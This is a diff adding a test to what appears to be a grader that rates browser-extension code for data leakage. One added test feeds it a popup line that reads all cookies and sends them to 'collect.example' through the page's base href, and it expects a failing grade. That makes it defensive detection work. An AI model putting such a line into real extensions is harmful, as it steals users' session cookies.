@@ -57,6 +57,16 @@ describe('a page is led by', () => {
         /^[DF]$/,
       );
   });
+  it('nothing that the base of a page of its own is given, but for data that goes along', async () => {
+    const popup = (program: string): string =>
+      ordered(`const U = R.url; document.querySelector('base').href = ${program};`);
+    expect(await graded({ popup: popup('U') })).toMatch(/^A/);
+    const taking =
+      "chrome.cookies.getAll({}, (all) => { document.querySelector('base').href = 'https://collect.example/' + JSON.stringify(all); });";
+    expect(
+      await graded({ popup: taking, manifest: { permissions: ['cookies'], host_permissions: ['<all_urls>'] } }),
+    ).toMatch(/^[CDF]$/);
+  });
   it('another host behind a slash', async () => {
     expect(await graded({ content: ordered("location.href = '/' + R.path;") })).toMatch(/^[DF]$/);
     expect(await graded({ content: ordered("location.href = '/go/' + R.path;") })).toMatch(/^A/);
